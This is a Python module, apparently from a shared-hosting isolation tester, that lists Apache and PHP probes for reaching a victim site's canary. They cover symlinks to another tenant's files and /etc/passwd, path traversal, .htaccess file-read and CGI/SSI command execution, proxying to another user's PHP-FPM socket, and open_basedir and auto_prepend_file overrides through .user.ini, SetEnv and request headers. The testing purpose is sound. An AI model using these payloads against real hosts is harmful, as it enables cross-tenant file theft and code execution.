"""What a site's code could make Apache do for it: by links, by .htaccess, by .user.ini and by headers of a request."""

from __future__ import annotations

from collections.abc import Mapping
from types import MappingProxyType
from typing import NamedTuple

from .probes import Pair

WHO = """<?php header('Cache-Control: no-store');
echo 'runs as ', posix_getpwuid(posix_geteuid())['name'], "\\n";
if (ini_get('open_basedir') === '' || @file_get_contents('/etc/passwd')) echo 'no open_basedir';
"""


class Trick(NamedTuple):
    """One request: what lies in a directory of its own, what is asked for there, and by what the answer betrays it.

    @SOCKET@ is that of a program of the victim's.
    """

    kind: str
    name: str
    asked: str
    betrays: str
    files: Mapping[str, str] = MappingProxyType({})
    links: Mapping[str, str] = MappingProxyType({})
    headers: tuple[str, ...] = ()
    php: bool = False


def tricks(pair: Pair) -> tuple[Trick, ...]:
    """All that is tried for this pair.  With `php` it needs a site that runs PHP."""
    b, place, canary = pair.victim, pair.place, pair.canary
    page = f"{place}/page.txt"
    socket = f"unix:/run/php/{b.owner}.sock|fcgi://{b.owner}"
    theirs, prepend = f"runs as {b.owner}", f"auto_prepend_file={page}"
    rules = "RewriteEngine on\n"
    free = "Options +FollowSymLinks\n"
    plain = (
        Trick("symlinks", "a link to its page", "x", canary, links={"x": page}),
        Trick("symlinks", "a link to its tree", "x/page.txt", canary, links={"x": place}),
        Trick("symlinks", "a link, and FollowSymLinks", "x", canary, {".htaccess": free}, {"x": page}),
        Trick("symlinks", "a link to the server's files", "x", "root:x:0", links={"x": "/etc/passwd"}),
        Trick("symlinks", "a way up", f"..%2f..%2f..%2f..%2f..%2f{place[9:]}/page.txt", canary),
        *(
            Trick("htaccess", f"its page as {what}", "x", canary, {".htaccess": line + "\n", "y.txt": "y"})
            for what, line in {
                "a header": f'Header always set X-Proof "expr=%{{file:{page}}}"',
                "an error page": f'ErrorDocument 404 "%{{file:{page}}}"',
                "a condition": f"{rules}RewriteCond expr \"file('{page}') =~ /(.+)/\"\nRewriteRule . /%1 [R]",
                "another name": f"{rules}RewriteRule . {page}",
                "a redirect": f"Redirect 302 /x {page}",
                "an include": f"Include {page}",
            }.items()
        ),
        Trick("htaccess", "a program as Apache's user, by CGI", "x.cgi", "runs as www-data",
              {".htaccess": "Options +ExecCGI\nAddHandler cgi-script .cgi\n",
               "x.cgi": "#!/bin/sh\necho; echo runs as $(id -un)\n"}),
        Trick("htaccess", "a program as Apache's user, by SSI", "x.shtml", "runs as www-data",
              {".htaccess": "Options +Includes\nAddOutputFilter INCLUDES .shtml\n",
               "x.shtml": '<!--#exec cmd="echo runs as $(id -un)" -->'}),
    )  # fmt: skip
    through: tuple[Trick, ...] = ()
    if pair.victim.has("fpm"):
        through = (
            Trick("sockets", "its PHP, by SetHandler", "who.php", theirs,
                  {".htaccess": f'SetHandler "proxy:{socket}"\n', "who.php": WHO}),
            Trick("sockets", "its PHP, by a rule's handler", "who.php", theirs,
                  {".htaccess": f'RewriteEngine on\nRewriteRule . - [H="proxy:{socket}"]\n', "who.php": WHO}),
            Trick("sockets", "its PHP, by a rule's proxy", "x", canary,
                  {".htaccess": f'RewriteEngine on\nRewriteRule . "{socket}{place}/secret.php" [P]\n'}),
        )  # fmt: skip
    if pair.listens:
        target = f"unix:@SOCKET@|{pair.listens}://{b.owner}"
        through += (
            Trick("sockets", "its program, by a rule's proxy", "x", canary,
                  {".htaccess": f'RewriteEngine on\nRewriteRule . "{target}/" [P]\n'}),
            Trick("sockets", "its program, by a rule's handler", "x.html", canary,
                  {".htaccess": f'RewriteEngine on\nRewriteRule . - [H="proxy:{target}/"]\n', "x.html": "x"}),
        )  # fmt: skip
    opened = "no open_basedir"
    ahead = "a file before the script"
    # A worker of PHP keeps what a request set: after a file before every script that it may not read, each answer is
    # 500, as if all were denied. So these come last.
    settings = (
        Trick("ini overrides", "open_basedir, by .user.ini", "who.php", opened,
              {".user.ini": "open_basedir = /\n", "who.php": WHO}, php=True),
        *(
            Trick("ini overrides", f"open_basedir, by SetEnv {name}", "who.php", opened,
                  {".htaccess": f'SetEnv {name} "open_basedir=/"\n', "who.php": WHO}, php=True)
            for name in ("PHP_VALUE", "PHP_ADMIN_VALUE")
        ),
        *(
            Trick("ini overrides", f"open_basedir, by the header {name}", "who.php", opened,
                  {"who.php": WHO}, headers=(f"{name}: open_basedir=/",), php=True)
            for name in ("PHP_VALUE", "PHP-ADMIN-VALUE", "PHP_ADMIN_VALUE")
        ),
        Trick("ini overrides", f"{ahead}, by .user.ini", "who.php", canary,
              {".user.ini": f"auto_prepend_file = {page}\n", "who.php": WHO}, php=True),
        Trick("ini overrides", f"{ahead}, by php_value", "who.php", canary,
              {".htaccess": f"php_value auto_prepend_file {page}\n", "who.php": WHO}, php=True),
        *(
            Trick("ini overrides", f"{ahead}, by SetEnv {name}", "who.php", canary,
                  {".htaccess": f'SetEnv {name} "{prepend}"\n', "who.php": WHO}, php=True)
            for name in ("PHP_VALUE", "PHP_ADMIN_VALUE")
        ),
    )  # fmt: skip
    return plain + through + settings
